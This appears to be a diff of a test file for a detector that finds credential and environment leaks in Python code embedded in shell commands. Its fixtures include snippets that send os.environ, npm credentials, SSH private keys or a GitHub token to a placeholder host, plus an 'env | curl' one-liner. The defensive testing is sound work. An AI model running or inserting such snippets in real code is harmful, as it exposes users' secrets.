@@ -1,6 +1,7 @@
 /** How command lines are read: words, quotes, what stands behind what, and the scripts in them. */
 import { describe, expect, test } from 'vitest';
 import { inlineScripts } from '../../src/code/inline.ts';
+import { leaksInPython } from '../../src/code/python.ts';
 import { callOf, commandsIn, worthOf } from '../../src/code/shell.ts';
 import { leaksIn } from '../../src/code/shell-flow.ts';
 import { packageOf } from '../world.ts';
@@ -40,6 +41,8 @@ describe('scripts in commands', () => {
     ['V=$(node -p "a()")', ['a()']],
     ["echo 'a()' | node", ['a()']],
     ['node <<< "a()"', ['a()']],
+    ["python3 -Bc 'a()'; python - <<< 'b()'", ['a()', 'b()']],
+    ['python3 x.py -c "a()"', []],
     ['node setup.js -e "a()"', []],
     ['grep -e "a()" node', []],
     ['nodemon -e js', []],
@@ -116,6 +119,60 @@ describe('what leaves', () => {
   ])('not: %s', (text) => {
     expect(leaksIn(text)).toEqual([]);
   });
+});
+
+describe('what leaves by Python', () => {
+  test.each<readonly [string, readonly string[]]>([
+    [
+      "import os,urllib.request as u;u.urlopen('https://a.example',str(dict(os.environ)).encode())",
+      ['the whole environment'],
+    ],
+    [
+      'import os, json, requests\nenv = {k: v for k, v in os.environ.items()}\nbody = json.dumps(\n  env\n)\nrequests.post(URL, data=body)',
+      ['the whole environment'],
+    ],
+    ['from os import environ as e\nimport requests as r\nr.post(u, json=dict(e))', ['the whole environment']],
+    [
+      "p = os.path.expanduser('~/.npmrc')\nif os.path.exists(p):\n  with open(p) as f:\n    data = f.read()\n  urlopen(Request(URL, data=data.encode()))",
+      ['npm credentials'],
+    ],
+    [
+      "def send(text):\n  s = socket.create_connection((H, 443))\n  s.sendall(text)\nsend(open(os.path.join(home, '.ssh', 'id_rsa')).read())",
+      ['SSH keys'],
+    ],
+    ['def all():\n  return dict(os.environ)\nurlopen(URL, repr(all()).encode())', ['the whole environment']],
+    ["urlopen(f'https://a.example/?{socket.gethostname()}')", ['socket.gethostname()']],
+    ["os.system('env | curl -d @- https://a.example')", ['the whole environment']],
+    ["t = subprocess.check_output(['gh', 'auth', 'token'])\nurlopen(URL, t)", ['gh auth token']],
+  ])('%s', (text, expected) => {
+    expect([...new Set(leaksInPython(text).map(({ what }) => what))]).toEqual(expected);
+  });
+
+  test.each([
+    "import os\nprint(os.environ.get('CC', 'cc'))",
+    "import os, urllib.request\nurl = os.environ['MIRROR'] + '/x.tgz'\nurllib.request.urlretrieve(url, 'x.tgz')",
+    "env = os.environ.copy()\nenv['CC'] = 'clang'\nsubprocess.check_call(['make'], env=env)\nurlopen('https://a.example/x')",
+    "env = dict(os.environ, CC='clang')\nif 'CI' in os.environ: print('ci')\nrequests.get(URL, headers={'a': env['USER_AGENT']})",
+    'print(dict(os.environ))\nurlopen(URL)',
+    "proxies = {k: v for k, v in os.environ.items() if k.endswith('_proxy')}\nrequests.get(URL, proxies=proxies)",
+    "open('.env').read()\nrequests.post(URL, data=open('coverage.xml').read())",
+    "self.env = os.environ.copy()\nself.url = 'https://a.example'\nrequests.get(self.url)",
+    "# urlopen(URL, dict(os.environ))\nprint('urlopen(os.environ)')",
+    "if os.path.exists(os.path.expanduser('~/.npmrc')):\n  urlopen(URL)",
+    'os.environ.update(X=post(URL))',
+  ])('not: %s', (text) => {
+    expect(leaksInPython(text)).toEqual([]);
+  });
+
+  test.each(["'", '"""', '(', 'x = (', "open('~/.npmrc'); ", 'a.', 'f"{', 'for a in ', 'x=os.environ\n', '\\', 'a, '])(
+    'a megabyte of %j is read in bounded time',
+    (unit) => {
+      const text = `open(os.environ, '')${unit.repeat(1_000_000 / unit.length)}`;
+      const started = process.cpuUsage().user;
+      leaksInPython(text);
+      expect((process.cpuUsage().user - started) / 1_000).toBeLessThan(3_000);
+    },
+  );
 });
 
 test.each([
